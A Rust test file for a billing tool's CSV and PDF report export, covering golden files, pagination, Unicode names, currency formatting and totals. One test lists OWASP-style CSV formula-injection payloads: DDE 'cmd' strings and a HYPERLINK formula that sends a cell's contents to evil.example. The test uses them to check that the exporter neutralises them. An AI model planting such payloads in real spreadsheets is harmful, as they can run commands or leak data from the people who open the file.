//! CSV and PDF output: golden CSV files, PDF text as extracted by pdftotext (poppler),
//! pagination, Unicode names, CSV-injection neutralisation, and totals that agree.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers outside #[test] fns

use std::path::{Path, PathBuf};
use std::process::Command;

use chrono::{DateTime, Utc};
use mspdesk_domain::{
    billing_report, BillingReport, ClientBillingInput, Currency, FxTable, Money, Period,
    PricedInstance, Provider,
};
use mspdesk_reports::{to_csv, to_pdf, Layout, ReportBranding, LINES_HEADER, SUMMARY_HEADER};
use rust_decimal::Decimal;
use rust_decimal_macros::dec;
use uuid::Uuid;

fn t(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

fn id(n: u128) -> Uuid {
    Uuid::from_u128(0x0190_0000_0000_7000_8000_0000_0000_0000 + n)
}

#[allow(clippy::too_many_arguments)]
fn instance(
    n: u128,
    name: &str,
    provider: Provider,
    ty: &str,
    hourly: Decimal,
    monthly: Decimal,
    currency: Currency,
    created: &str,
    deleted: Option<&str>,
) -> PricedInstance {
    PricedInstance {
        id: id(n),
        name: name.into(),
        provider,
        server_type: ty.into(),
        hourly,
        monthly,
        currency,
        created_at: t(created),
        deleted_at: deleted.map(t),
    }
}

/// Three clients with names in three scripts, Hetzner and DigitalOcean (USD) instances.
fn fixture() -> BillingReport {
    let clients = vec![
        ClientBillingInput {
            client_id: id(1),
            company_name: "Müller GmbH".into(),
            plan_name: "Business".into(),
            license_fee: Money::new(dec!(19.00), Currency::EUR),
            instances: vec![
                instance(
                    11,
                    "muc-web-01",
                    Provider::Hetzner,
                    "cpx31",
                    dec!(0.0218),
                    dec!(13.60),
                    Currency::EUR,
                    "2026-09-01T00:00:00Z",
                    None,
                ),
                instance(
                    12,
                    "muc-db-01",
                    Provider::Hetzner,
                    "cx42",
                    dec!(0.0263),
                    dec!(16.40),
                    Currency::EUR,
                    "2026-11-10T08:30:00Z",
                    Some("2026-11-20T17:05:00Z"),
                ),
            ],
        },
        ClientBillingInput {
            client_id: id(2),
            company_name: "Łódź Hosting Sp. z o.o.".into(),
            plan_name: "Starter".into(),
            license_fee: Money::new(dec!(9.00), Currency::EUR),
            instances: vec![instance(
                21,
                "lodz-app",
                Provider::Digitalocean,
                "s-2vcpu-4gb",
                dec!(0.03571),
                dec!(24.00),
                Currency::USD,
                "2026-11-03T12:00:00Z",
                None,
            )],
        },
        ClientBillingInput {
            client_id: id(3),
            company_name: "Société Générale de Conseil".into(),
            plan_name: "Enterprise".into(),
            license_fee: Money::new(dec!(39.00), Currency::EUR),
            instances: vec![
                instance(
                    31,
                    "sgc-erp",
                    Provider::Hetzner,
                    "cpx41",
                    dec!(0.0403),
                    dec!(25.20),
                    Currency::EUR,
                    "2026-10-01T00:00:00Z",
                    None,
                ),
                instance(
                    32,
                    "sgc-old",
                    Provider::Hetzner,
                    "cpx11",
                    dec!(0.0070),
                    dec!(4.35),
                    Currency::EUR,
                    "2026-06-01T00:00:00Z",
                    Some("2026-10-15T00:00:00Z"),
                ),
            ],
        },
    ];
    let period = Period::parse("2026-11").unwrap();
    let fx = FxTable::new(Currency::EUR).with_rate(Currency::USD, dec!(0.96));
    billing_report(&clients, period, period.end(), &fx).unwrap()
}

fn golden(name: &str, actual: &[u8]) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, actual).unwrap();
    }
    let expected = std::fs::read(&path).unwrap_or_else(|_| {
        panic!(
            "missing golden file {}; run with UPDATE_GOLDEN=1",
            path.display()
        )
    });
    assert_eq!(
        String::from_utf8_lossy(actual),
        String::from_utf8_lossy(&expected),
        "{name} differs from its golden file"
    );
}

#[test]
fn csv_matches_golden_files() {
    let report = fixture();
    // The old instance, deleted before November, is not billed.
    assert_eq!(report.line_count(), 4);
    golden(
        "lines.csv",
        &to_csv(&report, Layout::Lines, "Nordlicht IT-Service GmbH"),
    );
    golden(
        "summary.csv",
        &to_csv(&report, Layout::Summary, "Nordlicht IT-Service GmbH"),
    );
}

fn read_csv(bytes: &[u8]) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(bytes)
        .records()
        .map(|r| r.unwrap())
        .collect()
}

#[test]
fn csv_totals_equal_the_report() {
    let report = fixture();
    let lines = read_csv(&to_csv(&report, Layout::Lines, "Nordlicht IT-Service GmbH"));
    let total: Decimal = lines
        .iter()
        .map(|r| r[11].parse::<Decimal>().unwrap())
        .sum();
    assert_eq!(total, report.total);
    let summary = read_csv(&to_csv(
        &report,
        Layout::Summary,
        "Nordlicht IT-Service GmbH",
    ));
    let last = summary.last().unwrap();
    assert_eq!(&last[3], "TOTAL");
    assert_eq!(last[8].parse::<Decimal>().unwrap(), report.total);
    let per_client: Decimal = summary[..summary.len() - 1]
        .iter()
        .map(|r| r[8].parse::<Decimal>().unwrap())
        .sum();
    assert_eq!(per_client, report.total);
    // Every row names the MSP that issues the report.
    assert!(lines.iter().all(|r| &r[12] == "Nordlicht IT-Service GmbH"));
    assert!(summary.iter().all(|r| &r[9] == "Nordlicht IT-Service GmbH"));
    assert_eq!(
        csv::Reader::from_reader(&to_csv(&report, Layout::Lines, "Nordlicht IT-Service GmbH")[..])
            .headers()
            .unwrap()
            .iter()
            .collect::<Vec<_>>(),
        LINES_HEADER
    );
    assert_eq!(
        csv::Reader::from_reader(
            &to_csv(&report, Layout::Summary, "Nordlicht IT-Service GmbH")[..]
        )
        .headers()
        .unwrap()
        .iter()
        .collect::<Vec<_>>(),
        SUMMARY_HEADER
    );
}

/// Payloads from the OWASP CSV-injection page and common variants.
const INJECTION: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-1",
];

#[test]
fn csv_neutralises_formula_injection_and_keeps_numbers() {
    for payload in INJECTION {
        let mut report = fixture();
        report.clients[0].company_name = (*payload).to_owned();
        report.clients[0].plan_name = (*payload).to_owned();
        report.clients[0].lines[0].instance_name = (*payload).to_owned();
        report.clients[0].lines[0].server_type = (*payload).to_owned();
        for layout in [Layout::Lines, Layout::Summary] {
            let bytes = to_csv(&report, layout, payload);
            let (text_columns, number_columns): (&[usize], &[usize]) = match layout {
                Layout::Lines => (&[1, 3, 5, 7, 12], &[8, 9, 10, 11]),
                Layout::Summary => (&[1, 3, 4, 9], &[5, 6, 7, 8]),
            };
            let records = read_csv(&bytes);
            for record in &records {
                for &i in text_columns {
                    assert!(
                        !record[i].starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "unsafe text cell {:?}",
                        &record[i]
                    );
                }
                for &i in number_columns {
                    assert!(
                        record[i].parse::<Decimal>().is_ok(),
                        "numeric cell {:?} should stay a number",
                        &record[i]
                    );
                }
            }
            // The payload is kept, readable, behind its apostrophe.
            assert_eq!(&records[0][3], format!("'{payload}"));
        }
    }
}

fn pdftotext(pdf: &[u8]) -> String {
    let dir = std::env::temp_dir().join(format!("mspdesk-reports-{}", Uuid::now_v7()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("report.pdf");
    std::fs::write(&file, pdf).unwrap();
    let out = Command::new("pdftotext")
        .args(["-layout", "-enc", "UTF-8"])
        .arg(&file)
        .arg("-")
        .output()
        .expect("pdftotext (poppler-utils) is needed: run `cargo xtask setup`");
    assert!(
        out.status.success(),
        "pdftotext failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::remove_dir_all(&dir).unwrap();
    String::from_utf8(out.stdout).unwrap()
}

fn pages(pdf: &[u8]) -> usize {
    pdftotext(pdf).matches('\u{c}').count()
}

fn money(d: Decimal) -> String {
    // As the PDF shows it: two decimals with thousands separators.
    let s = format!("{d:.2}");
    let (int, frac) = s.split_once('.').unwrap();
    let mut out = String::new();
    for (i, c) in int.chars().enumerate() {
        if i > 0 && (int.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    format!("{out}.{frac}")
}

fn branding() -> ReportBranding {
    let logo = std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../icons/128x128.png"))
        .unwrap();
    ReportBranding {
        msp_name: "Nordlicht IT-Service GmbH".into(),
        logo_png: Some(logo),
    }
}

#[test]
fn pdf_text_has_every_line_the_names_and_the_totals() {
    let report = fixture();
    let pdf = to_pdf(&report, Layout::Lines, &branding()).unwrap();
    assert!(pdf.starts_with(b"%PDF-"));
    // The fonts are subset to the characters used: tens of kilobytes, not the whole fonts.
    assert!(pdf.len() < 150 * 1024, "{} bytes", pdf.len());
    let text = pdftotext(&pdf);
    for name in [
        "Müller GmbH",
        "Łódź Hosting Sp. z o.o.",
        "Société Générale de Conseil",
        "Nordlicht IT-Service GmbH",
    ] {
        assert!(text.contains(name), "{name} missing from:\n{text}");
    }
    for client in &report.clients {
        for line in &client.lines {
            let row = text
                .lines()
                .find(|l| l.contains(&line.instance_name))
                .unwrap_or_else(|| panic!("{} missing", line.instance_name));
            assert!(row.contains(&money(line.total)), "{row}");
            assert!(row.contains(&line.active_hours.to_string()), "{row}");
        }
        assert!(text.contains(&money(client.total)));
    }
    assert!(text.contains(&money(report.total)));
    assert!(
        text.contains("1 USD = 0.96 EUR"),
        "the FX rate used is shown"
    );
    assert!(text.contains("Page 1 of 1"));
    assert!(
        !text.contains('?'),
        "no character fell back to '?':\n{text}"
    );
}

#[test]
fn summary_pdf_has_one_row_per_client_and_the_grand_total() {
    let report = fixture();
    let text = pdftotext(
        &to_pdf(
            &report,
            Layout::Summary,
            &ReportBranding {
                msp_name: "MSP".into(),
                logo_png: None,
            },
        )
        .unwrap(),
    );
    for client in &report.clients {
        let row = text
            .lines()
            .find(|l| l.contains(&client.company_name))
            .unwrap();
        assert!(row.contains(&money(client.total)), "{row}");
        assert!(row.contains(&client.plan_name), "{row}");
    }
    let grand = text.lines().find(|l| l.contains("Grand total")).unwrap();
    assert!(grand.contains(&money(report.total)));
}

#[test]
fn long_reports_paginate_with_the_header_on_every_page() {
    let period = Period::parse("2026-11").unwrap();
    let instances: Vec<PricedInstance> = (0..320u32)
        .map(|i| {
            instance(
                1000 + u128::from(i),
                &format!("node-{i:03}"),
                Provider::Hetzner,
                "cx22",
                dec!(0.0060),
                dec!(3.79),
                Currency::EUR,
                "2026-10-01T00:00:00Z",
                None,
            )
        })
        .collect();
    let client = ClientBillingInput {
        client_id: id(9),
        company_name: "Große Flotte AG".into(),
        plan_name: "Business".into(),
        license_fee: Money::new(dec!(19.00), Currency::EUR),
        instances,
    };
    let report = billing_report(
        &[client],
        period,
        period.end(),
        &FxTable::new(Currency::EUR),
    )
    .unwrap();
    let pdf = to_pdf(&report, Layout::Lines, &branding()).unwrap();
    let n = pages(&pdf);
    assert!(n >= 7, "320 lines on {n} pages");
    let text = pdftotext(&pdf);
    assert_eq!(
        text.lines()
            .filter(|l| l.contains("Instance") && l.contains("Hosting"))
            .count(),
        n,
        "table header on each page"
    );
    for i in 1..=n {
        assert!(text.contains(&format!("Page {i} of {n}")));
    }
    for i in 0..320 {
        assert!(
            text.contains(&format!("node-{i:03}")),
            "node-{i:03} missing"
        );
    }
    // 320 * (3.79 + 19.00) = 7,292.80
    assert_eq!(report.total, dec!(7292.80));
    assert!(text.contains("7,292.80"));
    // The font is embedded in the file, not referenced from the system.
    let dir = std::env::temp_dir().join(format!("mspdesk-fonts-{}", Uuid::now_v7()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("r.pdf"), &pdf).unwrap();
    let fonts = Command::new("pdffonts")
        .arg(dir.join("r.pdf"))
        .output()
        .unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    let fonts = String::from_utf8(fonts.stdout).unwrap();
    let rows: Vec<&str> = fonts.lines().skip(2).collect();
    assert_eq!(rows.len(), 2, "regular and bold:\n{fonts}");
    assert!(
        rows.iter()
            .all(|l| l.split_whitespace().rev().nth(4) == Some("yes")),
        "not embedded:\n{fonts}"
    );
}

/// Two clients billed in `base`, each with an instance running all November and one running
/// its second half, at a per-instance fee of `fee` and a price of `hourly` capped at `monthly`.
fn report_in(base: Currency, fee: Decimal, hourly: Decimal, monthly: Decimal) -> BillingReport {
    let clients: Vec<ClientBillingInput> = (1..=2u128)
        .map(|c| ClientBillingInput {
            client_id: id(c),
            company_name: format!("Client {c}"),
            plan_name: "Plan".into(),
            license_fee: Money::new(fee, base),
            instances: vec![
                instance(
                    c * 10 + 1,
                    "all-month",
                    Provider::Hetzner,
                    "t",
                    hourly,
                    monthly,
                    base,
                    "2026-10-01T00:00:00Z",
                    None,
                ),
                instance(
                    c * 10 + 2,
                    "half-month",
                    Provider::Hetzner,
                    "t",
                    hourly,
                    monthly,
                    base,
                    "2026-11-16T00:00:00Z",
                    None,
                ),
            ],
        })
        .collect();
    let period = Period::parse("2026-11").unwrap();
    billing_report(&clients, period, period.end(), &FxTable::new(base)).unwrap()
}

/// The amount cells of a CSV in `layout`, row by row.
fn amount_cells(csv: &[u8], layout: Layout) -> Vec<Vec<String>> {
    let columns: &[usize] = match layout {
        Layout::Lines => &[9, 10, 11],
        Layout::Summary => &[6, 7, 8],
    };
    read_csv(csv)
        .iter()
        .map(|r| columns.iter().map(|&i| r[i].to_owned()).collect())
        .collect()
}

fn assert_minor_digits(report: &BillingReport, digits: usize) {
    for layout in [Layout::Lines, Layout::Summary] {
        for row in amount_cells(&to_csv(report, layout, "Nordlicht IT-Service GmbH"), layout) {
            for cell in row {
                let frac = cell.split_once('.').map_or(0, |(_, f)| f.len());
                assert_eq!(
                    frac, digits,
                    "{layout:?} {} cell {cell:?} should have {digits} minor digits",
                    report.currency
                );
            }
        }
    }
}

#[test]
fn csv_amounts_have_exactly_the_currency_minor_digits() {
    // EUR: a fee of 19 (no decimals given), a half month's 9.5, a capped price of 5.
    let eur = report_in(Currency::EUR, dec!(19), dec!(0.01), dec!(5));
    assert_minor_digits(&eur, 2);
    assert_eq!(
        amount_cells(
            &to_csv(&eur, Layout::Lines, "Nordlicht IT-Service GmbH"),
            Layout::Lines
        )[..2],
        [["5.00", "19.00", "24.00"], ["3.60", "9.50", "13.10"]]
    );
    assert_eq!(
        amount_cells(
            &to_csv(&eur, Layout::Summary, "Nordlicht IT-Service GmbH"),
            Layout::Summary
        ),
        [
            ["8.60", "28.50", "37.10"],
            ["8.60", "28.50", "37.10"],
            ["17.20", "57.00", "74.20"]
        ]
    );

    // JPY has no minor unit.
    let jpy = report_in(Currency::JPY, dec!(1000), dec!(2), dec!(1000.00));
    assert_minor_digits(&jpy, 0);
    assert_eq!(
        amount_cells(
            &to_csv(&jpy, Layout::Lines, "Nordlicht IT-Service GmbH"),
            Layout::Lines
        )[..2],
        [["1000", "1000", "2000"], ["720", "500", "1220"]]
    );
    assert_eq!(
        amount_cells(
            &to_csv(&jpy, Layout::Summary, "Nordlicht IT-Service GmbH"),
            Layout::Summary
        )[2],
        ["3440", "3000", "6440"]
    );

    // BHD and KWD have three.
    let bhd = report_in(Currency::BHD, dec!(1.2), dec!(0.002), dec!(1));
    assert_minor_digits(&bhd, 3);
    assert_eq!(
        amount_cells(
            &to_csv(&bhd, Layout::Lines, "Nordlicht IT-Service GmbH"),
            Layout::Lines
        )[..2],
        [["1.000", "1.200", "2.200"], ["0.720", "0.600", "1.320"]]
    );
    assert_eq!(
        amount_cells(
            &to_csv(&bhd, Layout::Summary, "Nordlicht IT-Service GmbH"),
            Layout::Summary
        )[2],
        ["3.440", "3.600", "7.040"]
    );
    assert_minor_digits(
        &report_in(Currency::KWD, dec!(1.234), dec!(0.5), dec!(3)),
        3,
    );
}

#[test]
fn pdf_amounts_match_the_csv_format() {
    for (report, plain_total, shown_total) in [
        (
            report_in(Currency::EUR, dec!(19), dec!(0.01), dec!(5)),
            "74.20",
            "74.20",
        ),
        (
            report_in(Currency::JPY, dec!(1000), dec!(2), dec!(1000.00)),
            "6440",
            "6,440",
        ),
        (
            report_in(Currency::BHD, dec!(1.2), dec!(0.002), dec!(1)),
            "7.040",
            "7.040",
        ),
    ] {
        let summary = read_csv(&to_csv(
            &report,
            Layout::Summary,
            "Nordlicht IT-Service GmbH",
        ));
        assert_eq!(&summary.last().unwrap()[8], plain_total);
        let text =
            pdftotext(&to_pdf(&report, Layout::Summary, &ReportBranding::default()).unwrap());
        let grand = text.lines().find(|l| l.contains("Grand total")).unwrap();
        assert!(
            grand.split_whitespace().any(|w| w == shown_total),
            "{}: {grand}",
            report.currency
        );
    }
}
